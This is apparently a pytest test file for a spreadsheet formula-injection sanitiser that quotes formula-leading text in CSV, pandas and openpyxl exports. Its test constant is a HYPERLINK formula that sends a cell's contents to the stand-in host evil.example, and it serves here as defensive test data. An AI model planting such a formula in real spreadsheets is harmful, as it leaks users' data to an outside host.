"""lib/cells.py: text that a spreadsheet would run as a formula is quoted; numbers stay numbers; the quote comes off
again when Petakan reads back a file it wrote."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pytest

from petakan.lib.cells import csv_writer, frame_for_export, neutralise, neutralise_workbook, restore

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-5"])
def test_it_quotes_text_that_starts_a_formula(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", [-5, -5.25, 0, 3, np.float64(-1.5), np.int64(-7), Decimal("-12.30"), None, True, ""])
def test_it_never_touches_a_number_or_an_empty_value(value: object) -> None:
    assert neutralise(value) is value


@pytest.mark.parametrize("text", ["Blumah", "5", "a=b", "'ordinary quote", "–5 (en dash)", " =lead space"])
def test_it_leaves_ordinary_text_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_the_csv_writer_quotes_text_and_writes_numbers_as_numbers() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "value"])
    writer.writerows([[FORMULA, -5], ["-5", Decimal("-1.20")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "value"], ["'" + FORMULA, "-5"], ["'-5", "-1.20"]]


def test_a_frame_keeps_its_numeric_columns_and_quotes_its_text() -> None:
    frame = pd.DataFrame({"name": [FORMULA, "Kediten"], "score": [-1.5, 2.0], "mixed": ["@x", 3]})
    out = frame_for_export(frame)
    assert out["name"].tolist() == ["'" + FORMULA, "Kediten"]
    assert out["score"].dtype == np.float64 and out["score"].tolist() == [-1.5, 2.0]
    assert out["mixed"].tolist() == ["'@x", 3]
    assert frame["name"].iloc[0] == FORMULA  # the caller's frame is not changed
    assert out.to_csv(index=False).splitlines()[1].startswith("\"'=HYPERLINK")


def test_a_workbook_gets_no_live_formula_and_keeps_numeric_cells() -> None:
    wb = openpyxl.Workbook()
    wb.active.append([FORMULA, -5, "-5", 2.5])
    assert wb.active["A1"].data_type == "f"  # what openpyxl does with such text on its own
    buffer = io.BytesIO()
    neutralise_workbook(wb).save(buffer)
    cells = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert [c.value for c in cells] == ["'" + FORMULA, -5, "'-5", 2.5]
    assert [c.data_type for c in cells] == ["s", "n", "s", "n"]
